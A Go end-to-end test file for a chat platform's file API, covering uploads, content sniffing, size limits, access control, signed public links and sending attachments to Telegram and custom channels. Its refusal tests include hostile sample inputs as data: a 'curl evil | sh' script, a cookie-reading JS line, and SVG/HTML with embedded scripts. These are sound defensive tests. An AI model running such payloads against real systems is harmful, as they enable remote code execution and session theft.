package e2e

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/textproto"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/chatcenterhq/chatcenter"
	"github.com/chatcenterhq/chatcenter/activities"
	"github.com/chatcenterhq/chatcenter/db/dbsqlc"
	"github.com/chatcenterhq/chatcenter/storage"
)

// filesEnv is a bundle whose API stores files in a temporary directory and whose workers link
// attachments to that API, as `chatcenter dev` wires them.
type filesEnv struct {
	*bundle
	dir     string
	linkKey []byte
}

// filesSetup mirrors setup() and adds file storage. It cannot reuse setup(): the harness starts
// the workers before its HTTP server exists, and the send activity must know the server's URL to
// build the links providers fetch attachments from.
func filesSetup(t *testing.T, maxUpload int64) *filesEnv {
	t.Helper()
	b := setup(t, withMaxUpload(maxUpload))
	return &filesEnv{bundle: b, dir: b.filesDir, linkKey: b.linkKey}
}

// filesView is a file as the API answers it.
type filesView struct {
	ID              int64    `json:"id"`
	Name            string   `json:"name"`
	MimeType        string   `json:"mime_type"`
	Kind            string   `json:"kind"`
	Size            int64    `json:"size"`
	SHA256          string   `json:"sha256"`
	DurationSeconds *float64 `json:"duration_seconds"`
	UploaderID      *int64   `json:"uploader_id"`
}

type filesError struct {
	Error struct {
		Code    string `json:"code"`
		Message string `json:"message"`
	} `json:"error"`
}

// filesMultipart builds a form with one file field, declaring contentType for it.
func filesMultipart(t *testing.T, field, name, contentType string, data []byte) ([]byte, string) {
	t.Helper()
	var buf bytes.Buffer
	w := multipart.NewWriter(&buf)
	h := textproto.MIMEHeader{}
	quote := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace
	h.Set("Content-Disposition", fmt.Sprintf(`form-data; name="%s"; filename="%s"`, quote(field), quote(name)))
	h.Set("Content-Type", contentType)
	p, err := w.CreatePart(h)
	require.NoError(t, err)
	_, err = p.Write(data)
	require.NoError(t, err)
	require.NoError(t, w.Close())
	return buf.Bytes(), w.FormDataContentType()
}

// upload posts a file as token (the owner when empty) and decodes the answer into out.
func (e *filesEnv) upload(token, name, contentType string, data []byte, wantStatus int, out any) []byte {
	e.t.Helper()
	body, ct := filesMultipart(e.t, "file", name, contentType, data)
	return e.post(token, body, ct, wantStatus, out)
}

func (e *filesEnv) post(token string, body []byte, contentType string, wantStatus int, out any) []byte {
	e.t.Helper()
	if token == "" {
		token = e.token
	}
	req, err := http.NewRequest("POST", e.api.URL+"/api/v1/files", bytes.NewReader(body))
	require.NoError(e.t, err)
	req.Header.Set("Content-Type", contentType)
	req.Header.Set("Authorization", "Bearer "+token)
	return e.send(req, wantStatus, out)
}

func (e *filesEnv) send(req *http.Request, wantStatus int, out any) []byte {
	e.t.Helper()
	resp, err := http.DefaultClient.Do(req)
	require.NoError(e.t, err)
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	require.NoError(e.t, err)
	require.Equal(e.t, wantStatus, resp.StatusCode, "%s %s: %s", req.Method, req.URL.Path, raw)
	if out != nil {
		require.NoError(e.t, json.Unmarshal(raw, out), "%s", raw)
	}
	return raw
}

// get fetches a URL (absolute, or a path on the API) with an optional bearer token.
func (e *filesEnv) get(method, url, token string) (*http.Response, []byte) {
	e.t.Helper()
	if strings.HasPrefix(url, "/") {
		url = e.api.URL + url
	}
	req, err := http.NewRequest(method, url, nil)
	require.NoError(e.t, err)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	require.NoError(e.t, err)
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	require.NoError(e.t, err)
	return resp, raw
}

// storedFiles lists every file under the storage directory, temporary ones included.
func (e *filesEnv) storedFiles() []string {
	e.t.Helper()
	var out []string
	require.NoError(e.t, filepath.WalkDir(e.dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			out = append(out, p)
		}
		return err
	}))
	return out
}

func (e *filesEnv) fileRows() int {
	e.t.Helper()
	var n int
	require.NoError(e.t, e.db.Pool.QueryRow(context.Background(), "SELECT count(*) FROM files").Scan(&n))
	return n
}

// user creates a user in a workspace (a new one when workspaceID is 0) and logs in.
func (e *filesEnv) user(workspaceID int64, email string, role chatcenter.Role) (int64, string) {
	e.t.Helper()
	ctx := context.Background()
	if workspaceID == 0 {
		ws, err := e.db.WorkspaceInsert(ctx, dbsqlc.WorkspaceInsertParams{Name: "Other", Timezone: "UTC", Language: "en"})
		require.NoError(e.t, err)
		workspaceID = ws.ID
	}
	hash, err := hashForTest("files password 1")
	require.NoError(e.t, err)
	u, err := e.db.UserInsert(ctx, dbsqlc.UserInsertParams{WorkspaceID: workspaceID, Email: email, PasswordHash: hash, Name: email, Role: string(role)})
	require.NoError(e.t, err)
	var login struct{ Token string }
	e.request("POST", "/api/v1/auth/login", nil, map[string]any{"email": email, "password": "files password 1"}, http.StatusOK, &login)
	return u.ID, login.Token
}

var (
	filesPNG  = append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"), bytes.Repeat([]byte{0x42}, 2000)...)
	filesPDF  = []byte("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
	filesMP3  = append([]byte("ID3\x03\x00\x00\x00\x00\x00\x0a"), bytes.Repeat([]byte{0xff, 0xfb, 0x90, 0x64}, 500)...)
	filesEXE  = append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), bytes.Repeat([]byte{0}, 500)...)
	filesHTML = []byte("<!DOCTYPE html>\n<html><body><script>fetch('/api/v1/me')</script></body></html>")
)

// filesOggPage builds one Ogg page with a correct header and CRC (polynomial 0x04C11DB7).
func filesOggPage(flags byte, granule int64, serial, seq uint32, body []byte) []byte {
	var segs []byte
	n := len(body)
	for ; n >= 255; n -= 255 {
		segs = append(segs, 255)
	}
	segs = append(segs, byte(n))
	p := append([]byte("OggS\x00"), flags)
	p = binary.LittleEndian.AppendUint64(p, uint64(granule))
	p = binary.LittleEndian.AppendUint32(p, serial)
	p = binary.LittleEndian.AppendUint32(p, seq)
	p = append(p, 0, 0, 0, 0, byte(len(segs)))
	p = append(append(p, segs...), body...)
	var crc uint32
	for _, x := range p {
		crc ^= uint32(x) << 24
		for range 8 {
			if crc&0x80000000 != 0 {
				crc = crc<<1 ^ 0x04c11db7
			} else {
				crc <<= 1
			}
		}
	}
	binary.LittleEndian.PutUint32(p[22:], crc)
	return p
}

// filesOpus is a tiny Ogg Opus recording: OpusHead (pre-skip 312, 48 kHz), OpusTags and audio
// pages whose last granule position makes it play for seconds.
func filesOpus(seconds float64) []byte {
	head := []byte("OpusHead\x01\x01")
	head = binary.LittleEndian.AppendUint16(head, 312)
	head = binary.LittleEndian.AppendUint32(head, 48000)
	head = append(head, 0, 0, 0)
	out := filesOggPage(0x02, 0, 0x1234, 0, head)
	out = append(out, filesOggPage(0, 0, 0x1234, 1, []byte("OpusTags\x08\x00\x00\x00chatcntr\x00\x00\x00\x00"))...)
	end := int64(seconds*48000) + 312
	out = append(out, filesOggPage(0, end/2, 0x1234, 2, bytes.Repeat([]byte{0xfc, 0xff, 0xfe}, 100))...)
	return append(out, filesOggPage(0x04, end, 0x1234, 3, bytes.Repeat([]byte{0xfc, 0xff, 0xfe}, 100))...)
}

// TestFilesUploadDownloadAndLibrary: uploads keep the sniffed type (not the declared one), a
// sanitized name, size, hash and the duration of recordings; the library lists them newest first
// by kind with a cursor; downloads return the same bytes as attachments that may not be sniffed.
func TestFilesUploadDownloadAndLibrary(t *testing.T) {
	e := filesSetup(t, 1<<20)

	// A PNG declared as HTML and named like a program is stored as the PNG it is.
	var png filesView
	e.upload("", `C:\Users\ana\photo.exe`, "text/html", filesPNG, http.StatusCreated, &png)
	require.Equal(t, "photo.exe.png", png.Name)
	require.Equal(t, "image/png", png.MimeType)
	require.Equal(t, "image", png.Kind)
	require.EqualValues(t, len(filesPNG), png.Size)
	require.Len(t, png.SHA256, 64)
	require.Nil(t, png.DurationSeconds)
	require.Equal(t, e.owner.ID, *png.UploaderID)

	var pdf, voice, mp3, text filesView
	e.upload("", "résumé \u202egnp.pdf", "application/octet-stream", filesPDF, http.StatusCreated, &pdf)
	require.Equal(t, "résumé gnp.pdf", pdf.Name, "the right-to-left override is dropped")
	require.Equal(t, "document", pdf.Kind)
	e.upload("", "note.ogg", "audio/ogg", filesOpus(3.5), http.StatusCreated, &voice)
	require.Equal(t, "audio/ogg", voice.MimeType)
	require.Equal(t, "audio", voice.Kind)
	require.InDelta(t, 3.5, *voice.DurationSeconds, 0.001)
	e.upload("", "song.mp3", "audio/mpeg", filesMP3, http.StatusCreated, &mp3)
	require.Nil(t, mp3.DurationSeconds, "mp3 durations are not read")
	e.upload("", "data.csv", "text/plain", []byte("a,b\n1,2\n"), http.StatusCreated, &text)
	require.Equal(t, "text/csv", text.MimeType)
	require.Len(t, e.storedFiles(), 5)

	// The library.
	var all list[filesView]
	e.do("GET", "/api/v1/files", "", nil, http.StatusOK, &all)
	require.Equal(t, []int64{text.ID, mp3.ID, voice.ID, pdf.ID, png.ID}, filesIDs(all.Items))
	require.Nil(t, all.NextCursor)
	var audio list[filesView]
	e.do("GET", "/api/v1/files?type=audio", "", nil, http.StatusOK, &audio)
	require.Equal(t, []int64{mp3.ID, voice.ID}, filesIDs(audio.Items))
	var docs list[filesView]
	e.do("GET", "/api/v1/files?type=document", "", nil, http.StatusOK, &docs)
	require.Equal(t, []int64{text.ID, pdf.ID}, filesIDs(docs.Items))
	var page1, page2, page3 list[filesView]
	e.do("GET", "/api/v1/files?limit=2", "", nil, http.StatusOK, &page1)
	require.Equal(t, []int64{text.ID, mp3.ID}, filesIDs(page1.Items))
	e.do("GET", "/api/v1/files?limit=2&cursor="+*page1.NextCursor, "", nil, http.StatusOK, &page2)
	require.Equal(t, []int64{voice.ID, pdf.ID}, filesIDs(page2.Items))
	e.do("GET", "/api/v1/files?limit=2&cursor="+*page2.NextCursor, "", nil, http.StatusOK, &page3)
	require.Equal(t, []int64{png.ID}, filesIDs(page3.Items))
	require.Nil(t, page3.NextCursor)
	e.do("GET", "/api/v1/files?type=exe", "", nil, http.StatusBadRequest, nil)

	var got filesView
	e.do("GET", fmt.Sprintf("/api/v1/files/%d", pdf.ID), "", nil, http.StatusOK, &got)
	require.Equal(t, pdf, got)

	// Downloads.
	resp, body := e.get("GET", fmt.Sprintf("/api/v1/files/%d/content", png.ID), e.token)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Equal(t, filesPNG, body)
	require.Equal(t, "image/png", resp.Header.Get("Content-Type"))
	require.Equal(t, "nosniff", resp.Header.Get("X-Content-Type-Options"))
	require.Equal(t, `attachment; filename="photo.exe.png"; filename*=UTF-8''photo.exe.png`, resp.Header.Get("Content-Disposition"))
	resp, body = e.get("GET", fmt.Sprintf("/api/v1/files/%d/content", pdf.ID), e.token)
	require.Equal(t, filesPDF, body)
	require.Equal(t, "application/pdf", resp.Header.Get("Content-Type"))
	require.Equal(t, `attachment; filename="r_sum_ gnp.pdf"; filename*=UTF-8''r%C3%A9sum%C3%A9%20gnp.pdf`, resp.Header.Get("Content-Disposition"))
}

func filesIDs(items []filesView) []int64 {
	out := make([]int64, len(items))
	for i, f := range items {
		out[i] = f.ID
	}
	return out
}

// TestFilesUploadRefusals: over the limit is 413 whether or not the client declares a length,
// and leaves no row and no bytes; executables (whatever their name), HTML and scripts are
// refused; malformed forms are 400.
func TestFilesUploadRefusals(t *testing.T) {
	e := filesSetup(t, 64<<10)

	var tooBig filesError
	e.upload("", "big.pdf", "application/pdf", append(filesPDF, make([]byte, 200<<10)...), http.StatusRequestEntityTooLarge, &tooBig)
	require.Equal(t, "too_large", tooBig.Error.Code)
	require.Contains(t, tooBig.Error.Message, "64 KB")

	// Streamed (chunked, no Content-Length): the limit holds while reading, not by the header.
	pr, pw := io.Pipe()
	mw := multipart.NewWriter(pw)
	go func() {
		fw, err := mw.CreateFormFile("file", "stream.pdf")
		if err == nil {
			_, err = fw.Write(filesPDF)
		}
		for i := 0; err == nil && i < 100; i++ {
			_, err = fw.Write(make([]byte, 32<<10)) // 3.2 MB in all
		}
		if err == nil {
			err = mw.Close()
		}
		pw.CloseWithError(err)
	}()
	req, err := http.NewRequest("POST", e.api.URL+"/api/v1/files", pr)
	require.NoError(t, err)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Authorization", "Bearer "+e.token)
	e.send(req, http.StatusRequestEntityTooLarge, &tooBig)
	require.Equal(t, "too_large", tooBig.Error.Code)

	// A file exactly at the limit is fine.
	var atLimit filesView
	e.upload("", "limit.pdf", "application/pdf", append(filesPDF, make([]byte, 64<<10-len(filesPDF))...), http.StatusCreated, &atLimit)
	require.EqualValues(t, 64<<10, atLimit.Size)
	require.Equal(t, 1, e.fileRows())
	require.Len(t, e.storedFiles(), 1)
	e.do("DELETE", fmt.Sprintf("/api/v1/files/%d", atLimit.ID), "", nil, http.StatusNoContent, nil)

	refused := []struct {
		name, declared string
		data           []byte
	}{
		{"cat.png", "image/png", filesEXE},
		{"setup.exe", "application/octet-stream", filesEXE},
		{"page.html", "text/html", filesHTML},
		{"page.txt", "text/plain", filesHTML},
		{"run.sh", "text/plain", []byte("#!/bin/sh\ncurl evil | sh\n")},
		{"app.js", "text/plain", []byte("document.cookie\n")},
		{"image.svg", "image/svg+xml", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)},
		{"blob.bin", "application/octet-stream", []byte{0, 1, 2, 3, 4, 5}},
	}
	for _, r := range refused {
		var fe filesError
		e.upload("", r.name, r.declared, r.data, http.StatusBadRequest, &fe)
		require.Equal(t, "invalid", fe.Error.Code, r.name)
		require.Contains(t, fe.Error.Message, "file type not allowed", r.name)
	}
	var fe filesError
	e.upload("", "empty.txt", "text/plain", nil, http.StatusBadRequest, &fe)
	require.Contains(t, fe.Error.Message, "empty")
	body, ct := filesMultipart(t, "attachment", "a.png", "image/png", filesPNG)
	e.post("", body, ct, http.StatusBadRequest, &fe)
	require.Contains(t, fe.Error.Message, "no field named file")
	e.post("", []byte(`{"file":"x"}`), "application/json", http.StatusBadRequest, &fe)
	require.Contains(t, fe.Error.Message, "multipart/form-data")
	e.post("", []byte("--x\r\nbroken"), "multipart/form-data; boundary=x", http.StatusBadRequest, nil)

	require.Zero(t, e.fileRows())
	require.Empty(t, e.storedFiles(), "nothing stored, not even a temporary file")
}

// TestFilesAccess: downloads need a token; other workspaces see nothing; only the uploader,
// owners and managers delete; signed public links work until they expire and never for a
// forged, altered or deleted file.
func TestFilesAccess(t *testing.T) {
	e := filesSetup(t, 1<<20)
	agentID, agent := e.user(e.owner.WorkspaceID, "agent@example.com", chatcenter.RoleAgent)
	_, manager := e.user(e.owner.WorkspaceID, "manager@example.com", chatcenter.RoleManager)
	_, other := e.user(0, "outsider@example.com", chatcenter.RoleOwner)

	var mine, agents filesView
	e.upload("", "a.png", "image/png", filesPNG, http.StatusCreated, &mine)
	e.upload(agent, "b.pdf", "application/pdf", filesPDF, http.StatusCreated, &agents)
	require.Equal(t, agentID, *agents.UploaderID)
	content := fmt.Sprintf("/api/v1/files/%d/content", mine.ID)

	resp, _ := e.get("GET", content, "")
	require.Equal(t, http.StatusUnauthorized, resp.StatusCode)
	resp, _ = e.get("GET", content, "not-a-token")
	require.Equal(t, http.StatusUnauthorized, resp.StatusCode)
	e.request("POST", "/api/v1/files", nil, "x", http.StatusUnauthorized, nil)
	resp, body := e.get("GET", content, agent)
	require.Equal(t, http.StatusOK, resp.StatusCode, "every member reads the library")
	require.Equal(t, filesPNG, body)

	// Another workspace: 404 everywhere, an empty library.
	resp, _ = e.get("GET", content, other)
	require.Equal(t, http.StatusNotFound, resp.StatusCode)
	e.do("GET", fmt.Sprintf("/api/v1/files/%d", mine.ID), other, nil, http.StatusNotFound, nil)
	e.do("DELETE", fmt.Sprintf("/api/v1/files/%d", mine.ID), other, nil, http.StatusNotFound, nil)
	var l list[filesView]
	e.do("GET", "/api/v1/files", other, nil, http.StatusOK, &l)
	require.Empty(t, l.Items)

	// Deleting: agents only their own uploads; managers anyone's.
	e.do("DELETE", fmt.Sprintf("/api/v1/files/%d", mine.ID), agent, nil, http.StatusForbidden, nil)
	var theirs filesView
	e.upload(agent, "c.pdf", "application/pdf", filesPDF, http.StatusCreated, &theirs)
	e.do("DELETE", fmt.Sprintf("/api/v1/files/%d", theirs.ID), agent, nil, http.StatusNoContent, nil)
	e.do("DELETE", fmt.Sprintf("/api/v1/files/%d", agents.ID), manager, nil, http.StatusNoContent, nil)
	e.do("GET", fmt.Sprintf("/api/v1/files/%d", agents.ID), "", nil, http.StatusNotFound, nil)
	require.Len(t, e.storedFiles(), 1, "deleted files leave the disk")
	var events int
	require.NoError(t, e.db.Pool.QueryRow(context.Background(),
		"SELECT count(*) FROM events WHERE type IN ('file.created', 'file.deleted')").Scan(&events))
	require.Equal(t, 3+2, events)

	// Signed links.
	link := func(ws, id int64, exp time.Time) string {
		return "/files/public/" + storage.SignLink(e.linkKey, ws, id, exp)
	}
	resp, body = e.get("GET", link(e.owner.WorkspaceID, mine.ID, time.Now().Add(time.Hour)), "")
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Equal(t, filesPNG, body)
	require.Equal(t, "image/png", resp.Header.Get("Content-Type"))
	require.Equal(t, "nosniff", resp.Header.Get("X-Content-Type-Options"))
	resp, body = e.get("HEAD", link(e.owner.WorkspaceID, mine.ID, time.Now().Add(time.Hour)), "")
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Empty(t, body)
	require.Equal(t, fmt.Sprint(len(filesPNG)), resp.Header.Get("Content-Length"))

	otherKey, err := storage.DeriveLinkKey(bytes.Repeat([]byte{9}, 32))
	require.NoError(t, err)
	valid := storage.SignLink(e.linkKey, e.owner.WorkspaceID, mine.ID, time.Now().Add(time.Hour))
	for name, path := range map[string]string{
		"expired":         link(e.owner.WorkspaceID, mine.ID, time.Now().Add(-time.Second)),
		"deleted file":    link(e.owner.WorkspaceID, agents.ID, time.Now().Add(time.Hour)),
		"wrong workspace": link(e.owner.WorkspaceID+1, mine.ID, time.Now().Add(time.Hour)),
		"other key":       "/files/public/" + storage.SignLink(otherKey, e.owner.WorkspaceID, mine.ID, time.Now().Add(time.Hour)),
		"altered":         "/files/public/" + valid[:10] + string(valid[10]^1) + valid[11:],
		"garbage":         "/files/public/not-a-token",
	} {
		resp, body := e.get("GET", path, "")
		require.Equal(t, http.StatusNotFound, resp.StatusCode, name)
		require.Contains(t, string(body), `"code":"not_found"`, name)
	}
}

// TestFilesRepliesOnTelegram: a reply that names an uploaded image reaches Telegram as sendPhoto
// with a link that returns the same bytes; a short OGG/Opus recording goes as sendVoice; files of
// other workspaces, mismatched types and voice notes that are too long or of unknown length are
// refused before anything is stored.
func TestFilesRepliesOnTelegram(t *testing.T) {
	e := filesSetup(t, 1<<20)
	ch := e.createTelegramChannel()
	e.postUpdate(ch, textUpdate(10001, 1, "can you send me the invoice?"), http.StatusOK)
	conv := e.waitOpenConversation()
	path := fmt.Sprintf("/api/v1/conversations/%d/messages", conv.ID)

	var img, voice, long, mp3, pdf filesView
	e.upload("", "invoice.png", "image/png", filesPNG, http.StatusCreated, &img)
	e.upload("", "voice.ogg", "audio/ogg", filesOpus(4.2), http.StatusCreated, &voice)
	e.upload("", "long.ogg", "audio/ogg", filesOpus(301), http.StatusCreated, &long)
	e.upload("", "song.mp3", "audio/mpeg", filesMP3, http.StatusCreated, &mp3)
	e.upload("", "terms.pdf", "application/pdf", filesPDF, http.StatusCreated, &pdf)
	_, other := e.user(0, "outsider@example.com", chatcenter.RoleOwner)
	var foreign filesView
	e.upload(other, "theirs.png", "image/png", filesPNG, http.StatusCreated, &foreign)

	attachment := func(typ string, fileID int64, extra map[string]any) map[string]any {
		a := map[string]any{"type": typ, "file_id": fileID}
		for k, v := range extra {
			a[k] = v
		}
		return map[string]any{"type": "attachment", "attachment": a}
	}
	var photo chatcenter.Message
	e.do("POST", path, "", attachment("image", img.ID, map[string]any{"caption": "Your invoice"}), http.StatusAccepted, &photo)
	require.Equal(t, img.ID, photo.Content.Attachment.FileID)
	require.Equal(t, "image/png", photo.Content.Attachment.MimeType)
	require.Equal(t, "invoice.png", photo.Content.Attachment.FileName)
	require.EqualValues(t, len(filesPNG), photo.Content.Attachment.Size)
	require.Empty(t, photo.Content.Attachment.URL, "links are made at send time, never stored")
	e.eventually("photo sent", func() bool { return e.message(photo.ID).Status == chatcenter.StatusSent })
	calls := e.telegram.callsTo("sendPhoto")
	require.Len(t, calls, 1)
	require.Equal(t, "Your invoice", calls[0].Body["caption"])
	require.EqualValues(t, 1111111, calls[0].Body["chat_id"])
	require.NotContains(t, calls[0].Body, "photo", "our files are uploaded, not linked")
	require.Equal(t, tgFile{Name: "invoice.png", Type: "image/png", Data: filesPNG}, calls[0].Files["photo"],
		"Telegram receives the bytes, under the file's name and type")

	var note chatcenter.Message
	e.do("POST", path, "", attachment("voice", voice.ID, nil), http.StatusAccepted, &note)
	require.Equal(t, 5, note.Content.Attachment.Duration, "4.2 s rounds up")
	e.eventually("voice note sent", func() bool { return e.message(note.ID).Status == chatcenter.StatusSent })
	calls = e.telegram.callsTo("sendVoice")
	require.Len(t, calls, 1)
	require.Equal(t, filesOpus(4.2), calls[0].Files["voice"].Data)

	var doc chatcenter.Message
	e.do("POST", path, "", attachment("file", pdf.ID, nil), http.StatusAccepted, &doc)
	e.eventually("document sent", func() bool { return e.message(doc.ID).Status == chatcenter.StatusSent })
	calls = e.telegram.callsTo("sendDocument")
	require.Len(t, calls, 1)
	require.Equal(t, tgFile{Name: "terms.pdf", Type: "application/pdf", Data: filesPDF}, calls[0].Files["document"])

	before := len(e.messages(conv.ID))
	for name, tc := range map[string]struct {
		body any
		want string
	}{
		"another workspace's file": {attachment("image", foreign.ID, nil), "does not exist in this workspace"},
		"no such file":             {attachment("file", 987654321, nil), "does not exist in this workspace"},
		"image that is a pdf":      {attachment("image", pdf.ID, nil), "does not match"},
		"audio that is an image":   {attachment("audio", img.ID, nil), "does not match"},
		"video that is audio":      {attachment("video", voice.ID, nil), "does not match"},
		"voice over five minutes":  {attachment("voice", long.ID, nil), "at most 5 minutes"},
		"voice of unknown length":  {attachment("voice", mp3.ID, nil), "OGG/Opus"},
		"voice that is a pdf":      {attachment("voice", pdf.ID, nil), "audio recording"},
		"file_id and url":          {attachment("file", pdf.ID, map[string]any{"url": "https://example.com/a.pdf"}), "not both"},
		"negative file_id":         {attachment("file", -1, nil), "file_id"},
		"no type":                  {map[string]any{"type": "attachment", "attachment": map[string]any{"file_id": pdf.ID}}, "attachment.type"},
	} {
		var fe filesError
		e.do("POST", path, "", tc.body, http.StatusBadRequest, &fe)
		require.Equal(t, "invalid", fe.Error.Code, name)
		require.Contains(t, fe.Error.Message, tc.want, name)
	}
	require.Len(t, e.messages(conv.ID), before, "refused replies store nothing")

	// A file deleted after the reply was accepted fails the send with a reason, not a retry loop.
	var gone filesView
	e.upload("", "gone.png", "image/png", filesPNG, http.StatusCreated, &gone)
	e.telegram.script("sendPhoto", tgAnswer{Status: http.StatusTooManyRequests, Body: `{"ok":false,"error_code":429,"description":"Too Many Requests: retry after 1","parameters":{"retry_after":1}}`})
	var late chatcenter.Message
	e.do("POST", path, "", attachment("image", gone.ID, nil), http.StatusAccepted, &late)
	e.do("DELETE", fmt.Sprintf("/api/v1/files/%d", gone.ID), "", nil, http.StatusNoContent, nil)
	e.eventually("send failed", func() bool { return e.message(late.ID).Status == chatcenter.StatusFailed })
	require.Contains(t, e.message(late.ID).Error, "does not exist")
}

// TestFilesUploadedThroughLinks: a worker that cannot read the file store — a separate worker
// process without it, or one whose CHATCENTER_FILES_DIR is not the API's — downloads the file
// through its signed link from the API and uploads it to Telegram, including a kind Telegram
// refuses to fetch by URL itself (only PDF, ZIP and GIF documents); a file deleted between the
// check and the download fails the send with a reason.
func TestFilesUploadedThroughLinks(t *testing.T) {
	t.Run("no store", func(t *testing.T) {
		testFilesUploadedThroughLinks(t, func(a *activities.Activities) { a.Files = nil })
	})
	t.Run("another directory", func(t *testing.T) {
		other, err := storage.NewLocal(t.TempDir())
		require.NoError(t, err)
		testFilesUploadedThroughLinks(t, func(a *activities.Activities) { a.Files = other })
	})
}

func testFilesUploadedThroughLinks(t *testing.T, workerFiles func(*activities.Activities)) {
	b := setup(t, withMaxUpload(1<<20), withActivities(workerFiles))
	e := &filesEnv{bundle: b, dir: b.filesDir, linkKey: b.linkKey}
	ch := e.createTelegramChannel()
	e.postUpdate(ch, textUpdate(10001, 1, "the price list please"), http.StatusOK)
	conv := e.waitOpenConversation()
	path := fmt.Sprintf("/api/v1/conversations/%d/messages", conv.ID)

	csv := []byte("product,price\nwidget,9.50\n")
	var prices filesView
	e.upload("", "prices.csv", "text/csv", csv, http.StatusCreated, &prices)
	var msg chatcenter.Message
	e.do("POST", path, "", map[string]any{"type": "attachment", "attachment": map[string]any{"type": "file", "file_id": prices.ID, "caption": "Prices"}},
		http.StatusAccepted, &msg)
	e.eventually("document sent", func() bool { return e.message(msg.ID).Status == chatcenter.StatusSent })
	calls := e.telegram.callsTo("sendDocument")
	require.Len(t, calls, 1)
	require.Equal(t, "Prices", calls[0].Body["caption"])
	require.Equal(t, "prices.csv", calls[0].Files["document"].Name)
	require.Equal(t, csv, calls[0].Files["document"].Data)
	require.True(t, strings.HasPrefix(calls[0].Files["document"].Type, "text/csv"), calls[0].Files["document"].Type)

	// The file disappears from the store after the check (as when it is removed from disk): the
	// API's link answers 404 and the send fails with a reason instead of retrying for ever.
	var gone filesView
	e.upload("", "gone.csv", "text/csv", csv, http.StatusCreated, &gone)
	e.telegram.script("sendDocument", tgAnswer{Status: http.StatusTooManyRequests, Body: `{"ok":false,"error_code":429,"description":"Too Many Requests: retry after 1","parameters":{"retry_after":1}}`})
	var late chatcenter.Message
	e.do("POST", path, "", map[string]any{"type": "attachment", "attachment": map[string]any{"type": "file", "file_id": gone.ID}}, http.StatusAccepted, &late)
	e.eventually("first attempt throttled", func() bool { return len(e.telegram.callsTo("sendDocument")) == 2 })
	require.NoError(t, filepath.WalkDir(e.dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			return os.Remove(p)
		}
		return err
	}))
	e.eventually("send failed", func() bool { return e.message(late.ID).Status == chatcenter.StatusFailed })
	require.Contains(t, e.message(late.ID).Error, "no longer exists")
	require.Len(t, e.telegram.callsTo("sendDocument"), 2, "nothing more reached Telegram")
}

// TestFilesVoiceOnCustomChannel: the custom-channel protocol has no voice notes, so a recording
// goes out as a file whose link returns the recording.
func TestFilesVoiceOnCustomChannel(t *testing.T) {
	e := filesSetup(t, 1<<20)
	var mu sync.Mutex
	var received []map[string]any
	provider := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/message" || r.Header.Get("Authorization") != "Bearer "+customToken {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		var body map[string]any
		if err := json.NewDecoder(r.Body).Decode(&body); err != nil {
			w.WriteHeader(http.StatusBadRequest)
			return
		}
		mu.Lock()
		received = append(received, body)
		mu.Unlock()
		_, _ = io.WriteString(w, `{"mId":"voice-1"}`)
	}))
	t.Cleanup(provider.Close)
	var ch struct {
		ID int64 `json:"id"`
	}
	e.do("POST", "/api/v1/channels", "", map[string]any{
		"type": "custom", "name": "Website", "config": map[string]any{"api_url": provider.URL, "api_token": customToken},
	}, http.StatusCreated, &ch)
	e.request("POST", fmt.Sprintf("/webhooks/custom/%d", ch.ID), map[string]string{"Authorization": "Bearer " + customToken},
		`{"contactId":"+60123456789","events":[{"type":"message","mId":"m-1","timestamp":1662965848000,"message":{"type":"text","text":"hello"}}]}`,
		http.StatusOK, nil)
	conv := e.waitOpenConversation()

	var voice filesView
	e.upload("", "voice.ogg", "audio/ogg", filesOpus(2), http.StatusCreated, &voice)
	var msg chatcenter.Message
	e.do("POST", fmt.Sprintf("/api/v1/conversations/%d/messages", conv.ID), "",
		map[string]any{"type": "attachment", "attachment": map[string]any{"type": "voice", "file_id": voice.ID}}, http.StatusAccepted, &msg)
	e.eventually("sent", func() bool { return e.message(msg.ID).Status == chatcenter.StatusSent })
	mu.Lock()
	require.Len(t, received, 1)
	m := received[0]["message"].(map[string]any)
	mu.Unlock()
	require.Equal(t, "attachment", m["type"])
	a := m["attachment"].(map[string]any)
	require.Equal(t, "file", a["type"])
	url := a["url"].(string)
	require.True(t, strings.HasPrefix(url, e.api.URL+"/files/public/"), url)
	resp, body := e.get("GET", url, "")
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Equal(t, filesOpus(2), body)
	require.Equal(t, "audio/ogg", resp.Header.Get("Content-Type"))
	require.Equal(t, "voice-1", *e.message(msg.ID).ExternalID)
}
